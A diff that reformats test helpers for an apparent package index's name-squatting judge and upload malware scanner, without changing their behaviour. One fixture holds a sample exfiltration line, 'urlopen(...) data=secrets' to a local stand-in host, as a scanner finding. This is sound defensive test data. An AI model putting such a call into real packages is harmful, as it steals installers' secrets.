@@ -31,17 +31,31 @@ SCAN_RANK = {"clean": 0, "error": 1, "suspicious": 2, "malicious": 3}
 
 
 def review(name: str, similar_to: str, rule: str = "popular-name") -> NameVerdict:
-    return NameVerdict(name=name, verdict="review", reasons=(NameReason(
-        rule=rule, similar_to=similar_to,
-        detail=f"'{name}' is a popular project's name that this index does not host",
-    ),))
+    return NameVerdict(
+        name=name,
+        verdict="review",
+        reasons=(
+            NameReason(
+                rule=rule,
+                similar_to=similar_to,
+                detail=f"'{name}' is a popular project's name that this index does not host",
+            ),
+        ),
+    )
 
 
 def block(name: str, similar_to: str) -> NameVerdict:
-    return NameVerdict(name=name, verdict="block", reasons=(NameReason(
-        rule="look-alike", similar_to=similar_to,
-        detail=f"The name '{name}' is too close to the existing project '{similar_to}'.",
-    ),))
+    return NameVerdict(
+        name=name,
+        verdict="block",
+        reasons=(
+            NameReason(
+                rule="look-alike",
+                similar_to=similar_to,
+                detail=f"The name '{name}' is too close to the existing project '{similar_to}'.",
+            ),
+        ),
+    )
 
 
 @dataclass
@@ -58,7 +72,8 @@ class ExpectingJudge:
     ) -> NameVerdict:
         self.calls.append(name)
         verdict = (
-            await names.judge_new_name(session, settings, name, user_id=user_id) if self.real
+            await names.judge_new_name(session, settings, name, user_id=user_id)
+            if self.real
             else NameVerdict(name=name, verdict="allow")
         )
         wanted = self.expected.get(canonicalize_name(name))
@@ -71,17 +86,26 @@ class ExpectingJudge:
 class RecordingPairs:
     pairs: list[tuple[str, str, str]] = field(default_factory=list)
 
-    async def __call__(self, session: AsyncSession, name: str, similar_to: str, *,
-                       by: str) -> None:
+    async def __call__(self, session: AsyncSession, name: str, similar_to: str, *, by: str) -> None:
         await names.allow_pair(session, name, similar_to, by=by)
         self.pairs.append((name, similar_to, by))
 
 
 def malicious_report(filename: str) -> ScanReport:
-    return ScanReport(filename=filename, verdict="malicious", findings=[Finding(
-        rule="install-time-exfiltration", severity="critical", path="demo/__init__.py",
-        line=3, excerpt="urlopen('http://127.0.0.1:9/c', data=secrets)",
-    )], capabilities=frozenset({"network", "secrets", "import-time:exec-decoded"}))
+    return ScanReport(
+        filename=filename,
+        verdict="malicious",
+        findings=[
+            Finding(
+                rule="install-time-exfiltration",
+                severity="critical",
+                path="demo/__init__.py",
+                line=3,
+                excerpt="urlopen('http://127.0.0.1:9/c', data=secrets)",
+            )
+        ],
+        capabilities=frozenset({"network", "secrets", "import-time:exec-decoded"}),
+    )
 
 
 @dataclass
@@ -95,10 +119,20 @@ class ExpectingScanner:
             return report
         if wanted == "malicious":
             return malicious_report(filename)
-        return ScanReport(filename=filename, verdict=wanted, findings=[Finding(
-            rule="network-at-import", severity="medium", path="demo/__init__.py", line=1,
-            excerpt="socket.create_connection(('127.0.0.1', 9))",
-        )], capabilities=frozenset({"network"}))
+        return ScanReport(
+            filename=filename,
+            verdict=wanted,
+            findings=[
+                Finding(
+                    rule="network-at-import",
+                    severity="medium",
+                    path="demo/__init__.py",
+                    line=1,
+                    excerpt="socket.create_connection(('127.0.0.1', 9))",
+                )
+            ],
+            capabilities=frozenset({"network"}),
+        )
 
 
 @dataclass
@@ -123,15 +157,26 @@ class RecordingComparer:
         new = current.capabilities - (previous.capabilities if previous else frozenset())
         if previous is None or not new or current.verdict == "malicious":
             return VersionDiff(verdict=current.verdict)
-        return VersionDiff(verdict="suspicious", new_capabilities=new, findings=[Finding(
-            rule="new-capability", severity="medium", path="demo/__init__.py", line=1,
-            excerpt=", ".join(sorted(new)),
-        )])
+        return VersionDiff(
+            verdict="suspicious",
+            new_capabilities=new,
+            findings=[
+                Finding(
+                    rule="new-capability",
+                    severity="medium",
+                    path="demo/__init__.py",
+                    line=1,
+                    excerpt=", ".join(sorted(new)),
+                )
+            ],
+        )
 
 
 def protection(
-    judge: ExpectingJudge | None = None, scanner: object | None = None,
-    comparer: RecordingComparer | None = None, pairs: RecordingPairs | None = None,
+    judge: ExpectingJudge | None = None,
+    scanner: object | None = None,
+    comparer: RecordingComparer | None = None,
+    pairs: RecordingPairs | None = None,
 ) -> Protection:
     """A Protection with these doubles where given and the real detectors elsewhere."""
     built = Protection()
